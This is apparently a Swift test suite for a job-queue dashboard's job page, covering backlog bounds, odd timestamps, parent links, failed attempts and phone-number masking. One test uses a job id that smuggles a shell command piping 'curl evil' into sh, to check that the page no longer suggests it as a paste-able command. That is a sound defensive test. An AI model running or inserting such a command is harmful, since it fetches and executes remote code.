import Foundation
import HTTPTypes
import HoopoeCore
import HoopoeJSON
import Redis
import Testing

/// The job page finds a ready job in a large backlog by a bounded read of the stream, and says what it read when it
/// finds nothing.
@Suite struct JobPageTests {
    /// 3,000 ready jobs with caller-chosen ids `<prefix>-<n>`, one a millisecond from `startMs` (before anything added now).
    private func fill(_ harness: DashboardHarness, prefix: String, startMs: UInt64?) async throws {
        let stream = harness.jobs.keys("default").stream
        let commands = (0..<3000).map { n in
            var xadd = RedisCommand("XADD", stream, startMs.map { "\($0 + UInt64(n))-0" } ?? "*", "job")
            xadd.append(bytes: JobEnvelope(id: "\(prefix)-\(n)", type: "diag.record", payload: .object([:])).encoded())
            return xadd
        }
        for reply in try await harness.redis.pipeline(commands) { #expect(reply.errorMessage == nil) }
    }

    @Test func aReadyJobDeepInTheBacklogIsShownAndAMissOneStatesTheBound() async throws {
        let harness = try DashboardHarness()
        try await fill(harness, prefix: "old", startMs: UInt64(Date().timeIntervalSince1970 * 1000) - 60_000)
        let id = try #require(try await harness.jobs.enqueue(type: "diag.record", payload: .object(["member": "deep"])).createdID)
        try await fill(harness, prefix: "new", startMs: nil)
        #expect(try await harness.streamLength() == 6001)

        let page = try await harness.get("/job?queue=default&id=\(id)")
        #expect(page.status == .ok && page.text.contains("ready (waiting for a worker)") && page.text.contains("deep"), "\(page.text)")
        #expect(try await harness.get("/job?queue=default&id=new-2999").text.contains("ready (waiting for a worker)"))

        // A caller-chosen id in the middle of the backlog is outside the bound: the page says what it read.
        let missed = try await harness.get("/job?queue=default&id=old-2000")
        #expect(missed.text.contains("No job") && missed.text.contains("oldest 1000 and newest 1000 entries"), "\(missed.text)")
        #expect(missed.text.contains("hoopoe job show --whole-stream old-2000"))
    }

    /// A link's id no job can have is not put into a command to paste: `id=x $(curl …|sh)` was printed inside the
    /// suggested `hoopoe job show --whole-stream`, escaped for HTML, not for a shell.
    @Test func anIdNoJobCanHaveIsNotSuggestedAsACommand() async throws {
        let harness = try DashboardHarness()
        let page = try await harness.get("/job?queue=default&id=x%20%24(curl%20evil%7Csh)")
        #expect(page.status == .ok && page.text.contains("No job"), "\(page.text)")
        #expect(!page.text.contains("--whole-stream") && page.text.contains("no job can have this id"), "\(page.text)")
    }
}

extension JobPageTests {
    /// Times in a job's envelope are any writer's numbers: ones no clock can mean are shown, not converted into a
    /// trap (one page view of this job took the whole dashboard down).
    @Test func aJobWithTimesFarOutOfRangeIsShown() async throws {
        let harness = try DashboardHarness()
        let body = #"{"id":"far-times","type":"diag.record","payload":{},"enqueued_at":1e300,"run_at":1e19,"failed_attempts":[{"attempt":1,"at":1e19,"error":"e"}]}"#
        var xadd = RedisCommand("XADD", harness.jobs.keys("default").stream, "*", "job")
        xadd.append(bytes: Array(body.utf8))
        _ = try await harness.redis.send(xadd)
        let page = try await harness.get("/job?queue=default&id=far-times")
        #expect(page.status == .ok && page.text.contains("far-times"), "\(page.text)")
        #expect(page.text.contains("after the year 9999"), "\(page.text)")
    }

    /// A job a handler enqueued links the job that enqueued it (found in any queue).
    @Test func aJobEnqueuedByAnotherLinksIt() async throws {
        let harness = try DashboardHarness()
        let parent = try #require(try await harness.jobs.enqueue(type: "diag.record", payload: .object([:]), options: EnqueueOptions(queue: "mail")).createdID)
        let child = try await CurrentJob.$id.withValue(parent) {
            try #require(try await harness.jobs.enqueue(type: "diag.record", payload: .object([:])).createdID)
        }
        let page = try await harness.get("/job?queue=default&id=\(child)").text
        #expect(page.contains("<dt>enqueued by</dt><dd><a class=\"enqueued-by\" href=\"/job?id=\(parent)\"><code>\(parent)</code></a></dd>"), "\(page)")
        let followed = try await harness.get("/job?id=\(parent)")
        #expect(followed.status == .ok && followed.text.contains("<dd>mail</dd>"), "the link finds the parent in its own queue: \(followed.text)")
        #expect(!followed.text.contains("enqueued by"))

        // And back: the parent's "jobs it enqueued" searches for its children, in every queue and place.
        let scheduled = try await CurrentJob.$id.withValue(parent) {
            try #require(try await harness.jobs.enqueue(type: "diag.record", payload: .object([:]), options: .after(.seconds(600))).createdID)
        }
        let other = try #require(try await harness.jobs.enqueue(type: "diag.record", payload: .object([:])).createdID)
        let link = "/search?enqueued_by=\(parent)"
        #expect(followed.text.contains("<a class=\"enqueued-jobs\" href=\"\(link)\">"), "\(followed.text)")
        let found = try await harness.get(link).text
        #expect(found.contains(child) && found.contains(scheduled) && !found.contains(other) && found.contains("2 match(es)"), "\(found)")
    }

    /// A dead job's page lists its failed attempts with their times and errors, phone numbers masked.
    @Test func aRetriedJobsPageListsItsFailedAttempts() async throws {
        let harness = try DashboardHarness()
        let id = try await harness.bury(reason: "failed 3 of 3 attempts")
        var envelope = try #require(try await harness.jobs.deadJob(id: id, queue: "default"))
        envelope.failedAttempts = [
            FailedAttempt(attempt: 1, at: Date().timeIntervalSince1970 - 120, error: "provider down"),
            FailedAttempt(attempt: 2, at: Date().timeIntervalSince1970 - 60, error: "invalid receptor PHONE"),
        ]
        // Written as an enqueuer might, the number unmasked: the page masks it.
        let text = String(decoding: envelope.encoded(), as: UTF8.self).replacingOccurrences(of: "PHONE", with: "+989121234567")
        let hset = RedisCommand("HSET", [harness.jobs.keys("default").deadJobs, id, text])
        _ = try await harness.redis.send(hset)
        let page = try await harness.get("/job?queue=default&id=\(id)").text
        #expect(page.contains("Failed attempts") && page.contains("provider down") && page.contains("invalid receptor"), "\(page)")
        #expect(!page.contains("9121234567"), "phone numbers are masked")
    }
}

extension JobPageTests {
    /// The page lists the events the job wrote (their `job` field), those that name it (its `job_id`) or its
    /// payload's `message_id`, and no other, phones masked.
    @Test func theJobsEventsAreListedByItsIdAndMessageID() async throws {
        let harness = try DashboardHarness()
        let id = try await harness.bury(type: "sms.send", payload: .object(["message_id": "m-1", "receptor": "09121234567"]), reason: "failed permanently")
        let events = "\(harness.jobs.namespace):events"
        let now = Date().timeIntervalSince1970
        for (type, data) in [
            ("sms.failed", #"{"message_id":"m-1","reason":"Kavenegar [411] invalid receptor 09121234567","user_id":"7"}"#),
            ("sms.sent", #"{"message_id":"m-2","provider":"kavenegar","provider_message_ids":["9"],"user_id":"8"}"#),
            ("job.dead", #"{"attempt":1,"job_id":"\#(id)","job_type":"sms.send","queue":"default","reason":"failed permanently"}"#),
            ("job.dead", #"{"attempt":1,"job_id":"other-job","job_type":"sms.send","queue":"default","reason":"marker-other"}"#),
        ] {
            _ = try await harness.redis.send("XADD", events, "*", "type", type, "data", data, "at", String(format: "%.3f", now))
        }
        for (job, marker) in [(id, "marker-written"), ("other-job", "marker-other-writer")] {
            let data = #"{"code":"418","message":"\#(marker)","operation":"send","provider":"kavenegar"}"#
            _ = try await harness.redis.send("XADD", events, "*", "type", "provider.alert", "data", data, "at", String(format: "%.3f", now), "job", job)
        }
        let page = try await harness.get("/job?queue=default&id=\(id)").text
        #expect(page.contains("sms.failed") && page.contains("invalid receptor") && page.contains("job.dead"), "\(page)")
        #expect(page.contains("marker-written"), "an event the job wrote, which names neither it nor its message: \(page)")
        #expect(!page.contains("m-2") && !page.contains("marker-other"), "only the job's own events")
        #expect(!page.contains("9121234567"), "phone numbers masked")
        #expect(page.contains("among the newest 2000 of the events stream"))

        let quiet = try await harness.bury(payload: .object([:]))
        #expect(try await harness.get("/job?queue=default&id=\(quiet)").text.contains("<h2>Events</h2><p>None found.</p>"))
    }
}
